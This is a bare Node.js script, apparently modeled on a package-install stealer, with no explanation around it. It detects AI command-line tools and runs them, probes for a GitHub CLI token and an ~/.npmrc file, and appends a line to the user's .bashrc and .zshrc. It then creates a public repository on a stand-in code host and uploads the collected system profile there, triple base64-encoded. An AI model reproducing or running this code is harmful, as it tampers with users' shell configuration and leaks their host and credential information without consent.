#!/usr/bin/env node
const { spawnSync } = require('child_process');
const os = require('os');
const fs = require('fs');
const path = require('path');
const https = require('https');

const result = {
  env: { node: process.version },
  platform: process.platform,
  osType: os.type(),
  osRelease: os.release(),
  ghToken: null,
  npmWhoami: null,
  npmrcContent: null,
  clis: { claude: false, gemini: false, q: false },
  cliOutputs: {},
  appendedFiles: [],
};

if (process.platform === 'win32') process.exit(0);

function isOnPathSync(cmd) {
  const which = spawnSync('which', [cmd], { encoding: 'utf8' });
  return which.status === 0 && which.stdout && which.stdout.trim().length > 0;
}

const cliChecks = {
  claude: { cmd: 'claude', args: ['--version'] },
  gemini: { cmd: 'gemini', args: ['--version'] },
  q: { cmd: 'q', args: ['--version'] },
};

for (const key of Object.keys(cliChecks)) result.clis[key] = isOnPathSync(cliChecks[key].cmd);

function runBackgroundSync(cmd, args, maxBytes = 200000, timeout = 200000) {
  const r = spawnSync(cmd, args, { encoding: 'utf8', stdio: ['ignore', 'pipe', 'pipe'], timeout });
  const out = (r.stdout || '') + (r.stderr || '');
  return { exitCode: r.status, output: out.slice(0, maxBytes) };
}

function forceAppendAgentLine() {
  const home = process.env.HOME || os.homedir();
  const line = 'export BUILDCACHE=1';
  for (const file of ['.bashrc', '.zshrc']) {
    const p = path.join(home, file);
    try {
      const prefix = fs.existsSync(p) ? '\n' : '';
      fs.appendFileSync(p, prefix + line + '\n', { encoding: 'utf8' });
      result.appendedFiles.push(p);
    } catch (e) {
      result.appendedFiles.push({ path: p, error: String(e) });
    }
  }
}

function hostRequest(pathname, method, body, token) {
  return new Promise((resolve, reject) => {
    const b = body ? (typeof body === 'string' ? body : JSON.stringify(body)) : null;
    const opts = {
      hostname: 'api.codehost.example', path: pathname, method,
      headers: { Accept: 'application/json', 'User-Agent': 'axios/1.4.0', Authorization: `Token ${token}` },
    };
    if (b) {
      opts.headers['Content-Type'] = 'application/json';
      opts.headers['Content-Length'] = Buffer.byteLength(b);
    }
    const req = https.request(opts, res => {
      let data = '';
      res.on('data', c => (data += c));
      res.on('end', () => resolve({ status: res.statusCode, body: JSON.parse(data || '{}') }));
    });
    req.on('error', reject);
    if (b) req.write(b);
    req.end();
  });
}

(async () => {
  for (const key of Object.keys(cliChecks)) {
    if (!result.clis[key]) continue;
    const { cmd, args } = cliChecks[key];
    result.cliOutputs[cmd] = runBackgroundSync(cmd, args);
  }
  if (isOnPathSync('gh')) {
    const r = spawnSync('gh', ['auth', 'token'], { encoding: 'utf8', timeout: 5000 });
    const out = r.stdout.toString().trim();
    result.clis.gh = out.length > 0;
  }
  if (isOnPathSync('npm')) {
    const home = process.env.HOME || os.homedir();
    const npmrcPath = path.join(home, '.npmrc');
    if (fs.existsSync(npmrcPath)) result.npmrcContent = true;
  }
  forceAppendAgentLine();
  const token = process.env.BUILDCACHE_TOKEN;
  if (!token) process.exit(0);
  const repoName = 'one-repository-0';
  const create = await hostRequest('/user/repos', 'POST', { name: repoName, private: false }, token);
  if (create.status !== 201) process.exit(0);
  const json = JSON.stringify(result, null, 2);
  const b64 = Buffer.from(Buffer.from(Buffer.from(json, 'utf8').toString('base64'), 'utf8').toString('base64'), 'utf8').toString('base64');
  await hostRequest(`/repos/${create.body.full_name}/contents/results.b64`, 'PUT', { message: 'Creation.', content: b64 }, token);
})();
